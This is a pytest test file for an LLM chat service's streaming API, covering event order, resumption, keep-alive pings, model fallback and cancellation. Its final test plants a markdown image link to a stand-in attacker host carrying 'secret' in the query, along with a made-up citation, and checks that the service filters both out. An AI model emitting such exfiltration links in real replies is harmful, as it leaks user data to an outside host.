"""Streams through a real gunicorn with two workers: what a client sees, whatever the provider does."""

from __future__ import annotations

import time
from typing import TYPE_CHECKING, Any

import httpx
import pytest

from tests.provider_server import PROVIDER_KEY, ProviderServer, reply, status, writes
from tests.service.running import Service, running
from tests.service.sse import all_events, events, text_of

if TYPE_CHECKING:
    from collections.abc import Iterator


@pytest.fixture(scope="module")
def provider() -> Iterator[ProviderServer]:
    with ProviderServer() as server:
        yield server


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory, provider: ProviderServer) -> Iterator[Service]:
    settings = {
        "GROQ_BASE_URL": provider.url,
        "GROQ_API_KEY": PROVIDER_KEY,
        "LLM_CHAIN": "groq/small,groq/large",
        "LLM_BACKOFF_SECONDS": "0.01",
        "LLM_SKIP_AFTER": "1000",
        "LLM_CALL_SECONDS": "2",
        "STREAM_PING_SECONDS": "0.3",
    }
    with running(tmp_path_factory.mktemp("streams"), **settings) as service:
        yield service


@pytest.fixture
def conversations(service: Service, provider: ProviderServer) -> str:
    provider.forget()
    return f"{service.url}/api/v1/conversations"


def started(conversations: str) -> str:
    """The address of a new conversation's messages."""
    answer = httpx.post(conversations, json={"first_message": "Hello"}).json()
    return f"{conversations}/{answer['id']}/messages"


def names(received: list[Any]) -> list[str]:
    return [event.name for event in received]


def test_a_reply_comes_as_it_is_written_and_last_the_whole_message(
    conversations: str, provider: ProviderServer
) -> None:
    messages = started(conversations)
    provider.will(writes("Once ", "upon ", "a time."))
    received = all_events("POST", messages, json={"message": "Tell me", "stream": True})
    assert names(received)[0] == "message.created"
    assert set(names(received)[1:-1]) == {"message.delta"}
    assert received[-1].name == "message.completed"
    message = received[-1].data["message"]
    assert text_of(received) == message["content"] == "Once upon a time."
    assert message["id"] == received[0].data["assistant_message_id"]
    assert (message["status"], message["model_used"], message["tokens_used"]) == ("complete", "small", 120)
    assert httpx.get(f"{messages}/{message['id']}").json() == message


def test_the_accept_header_asks_for_events_too(conversations: str) -> None:
    headers = {"Accept": "text/event-stream"}
    received = all_events("POST", conversations, json={"first_message": "Hi"}, headers=headers)
    assert (names(received)[0], names(received)[-1]) == ("message.created", "message.completed")


def test_an_error_is_json_also_for_a_client_that_reads_events(conversations: str) -> None:
    headers = {"Accept": "text/event-stream"}
    response = httpx.post(conversations, json={"first_message": ""}, headers=headers)
    assert (response.status_code, response.headers["content-type"]) == (400, "application/json")
    assert response.json()["code"] == "invalid_request"


def test_the_first_piece_leaves_before_the_provider_has_the_second(
    conversations: str, provider: ProviderServer
) -> None:
    messages = started(conversations)
    provider.will(writes("First", " second", gap=1.0))
    with events("POST", messages, json={"message": "x", "stream": True}) as stream:
        began = time.monotonic()
        next(event for event in stream if event.name == "message.delta")
        assert time.monotonic() - began < 0.9
        assert "message.completed" in names(list(stream))


def test_pieces_that_come_fast_are_gathered_behind_the_first(conversations: str, provider: ProviderServer) -> None:
    words = [f"word{number} " for number in range(80)]
    provider.will(writes(*words, gap=0.003))
    received = all_events("POST", conversations, json={"first_message": "Fast", "stream": True})
    deltas = [event for event in received if event.name == "message.delta"]
    assert "".join(event.data["text"] for event in deltas) == "".join(words)
    assert len(deltas) < len(words) / 2


def test_closing_the_socket_stops_nothing_and_anyone_can_read_on(conversations: str, provider: ProviderServer) -> None:
    messages = started(conversations)
    provider.will(writes("one", " two", " three", " four", gap=0.25))
    with events("POST", messages, json={"message": "count", "stream": True}) as stream:
        created = next(stream)
        first = next(event for event in stream if event.name == "message.delta")
    address = f"{messages}/{created.data['assistant_message_id']}/events"
    # Several times, so that both workers are asked.
    for _ in range(4):
        rest = all_events("GET", address, headers={"Last-Event-ID": first.id})
        deltas = [event.data for event in rest if event.name == "message.delta"]
        assert deltas[0]["offset"] == len(first.data["text"])
        whole = first.data["text"] + "".join(delta["text"] for delta in deltas)
        assert whole == rest[-1].data["message"]["content"] == "one two three four"
    assert text_of(all_events("GET", address)) == "one two three four"
    assert names(all_events("GET", f"{address}?starting_after=18")) == ["message.completed"]


def test_a_silent_stream_is_kept_open_by_comments(conversations: str, provider: ProviderServer) -> None:
    messages = started(conversations)
    provider.will(writes("late", after=1.0))
    with httpx.stream("POST", messages, json={"message": "x", "stream": True}, timeout=10) as response:
        assert response.read().count(b": ping\n\n") >= 3


@pytest.mark.parametrize("end", ["cut", "error", "nothing", "broken", "hang"])
def test_before_the_first_token_a_switch_of_model_is_not_seen(
    conversations: str, provider: ProviderServer, end: str
) -> None:
    messages = started(conversations)
    provider.will(*[writes(end=end)] * 3, model="small")
    provider.will(writes("From the ", "large one"), model="large")
    received = all_events("POST", messages, json={"message": "x", "stream": True})
    assert "message.restarted" not in names(received)
    assert text_of(received) == received[-1].data["message"]["content"] == "From the large one"
    assert received[-1].data["message"]["model_used"] == "large"


@pytest.mark.parametrize("end", ["cut", "error", "nothing", "broken", "hang"])
def test_after_it_the_text_begins_anew_once_and_is_never_spliced(
    conversations: str, provider: ProviderServer, end: str
) -> None:
    messages = started(conversations)
    provider.will(writes("Half an ", "answer ", gap=0.05, end=end), model="small")
    provider.will(writes("The whole ", "answer."), model="large")
    received = all_events("POST", messages, json={"message": "x", "stream": True})
    assert names(received).count("message.restarted") == 1
    assert text_of(received) == received[-1].data["message"]["content"] == "The whole answer."
    before = received[names(received).index("message.restarted") - 1]
    again = all_events(
        "GET", f"{messages}/{received[0].data['assistant_message_id']}/events", headers={"Last-Event-ID": before.id}
    )
    assert names(again)[0] == "message.restarted"
    assert text_of(again) == "The whole answer."


def test_a_stream_that_nobody_can_end_fails_with_the_question_kept(
    conversations: str, provider: ProviderServer
) -> None:
    messages = started(conversations)
    provider.always(status(503))
    received = all_events("POST", messages, json={"message": "Keep me", "stream": True})
    assert received[-1].name == "message.failed"
    message = received[-1].data["message"]
    assert (message["status"], message["model_used"]) == ("failed", None)
    history = httpx.get(messages).json()["messages"]
    assert history[-2]["content"] == "Keep me"


def test_a_cancelled_reply_stops_the_provider_within_a_second_and_keeps_its_text(
    conversations: str, provider: ProviderServer
) -> None:
    messages = started(conversations)
    provider.will(writes("one ", "two ", "three ", gap=0.1, end="hang"))
    with events("POST", messages, json={"message": "count", "stream": True}) as stream:
        created = next(stream)
        while next(stream).data.get("text", "").strip() != "three":
            pass
        time.sleep(0.4)  # by now the row knows it, whoever answers
        began = time.monotonic()
        answer = httpx.post(f"{messages}/{created.data['assistant_message_id']}/cancel").json()
        assert names(list(stream))[-1] == "message.cancelled"
        assert time.monotonic() - began < 1.5
    assert (answer["status"], answer["content"]) == ("cancelled", "one two three")
    assert answer["tokens_used"] > 0
    provider.will(reply("Go on"))
    after = httpx.post(messages, json={"message": "Next"}).json()
    assert after["assistant_message"]["content"] == "Go on"
    assert {"role": "assistant", "content": "one two three"} in provider.requests[-1].body["messages"]


def test_a_whole_reply_that_is_waited_for_can_be_cancelled_from_outside(
    conversations: str, provider: ProviderServer
) -> None:
    messages = started(conversations)
    provider.will(reply("Too late", after=20))
    with events("POST", messages, json={"message": "x", "stream": True}) as stream:
        reply_id = next(stream).data["assistant_message_id"]
        for _ in range(3):
            time.sleep(0.1)
        began = time.monotonic()
        assert httpx.post(f"{messages}/{reply_id}/cancel").json()["status"] == "cancelled"
        assert time.monotonic() - began < 1.9
        assert names(list(stream))[-1] == "message.cancelled"


def test_a_made_up_mark_and_a_link_that_no_passage_states_are_never_seen(
    conversations: str, provider: ProviderServer
) -> None:
    texts = ("Three years", " [1]", ". ", "![x](http://", "evil.example/?q=", "secret) ", "and ", "[9]", " more.")
    provider.will(writes(*texts, gap=0.05))
    body = {"first_message": "How long is the warranty?", "mode": "rag", "document_ids": [1, 2, 3, 4], "stream": True}
    received = all_events("POST", conversations, json=body)
    shown = [event.data["text"] for event in received if event.name == "message.delta"]
    assert not any("evil.example" in text or "[9]" in text for text in shown)
    message = received[-1].data["message"]
    assert text_of(received) == message["content"]
    assert [event.data for event in received if event.name == "message.citation"] == message["citations"]
    assert len(message["citations"]) == 1
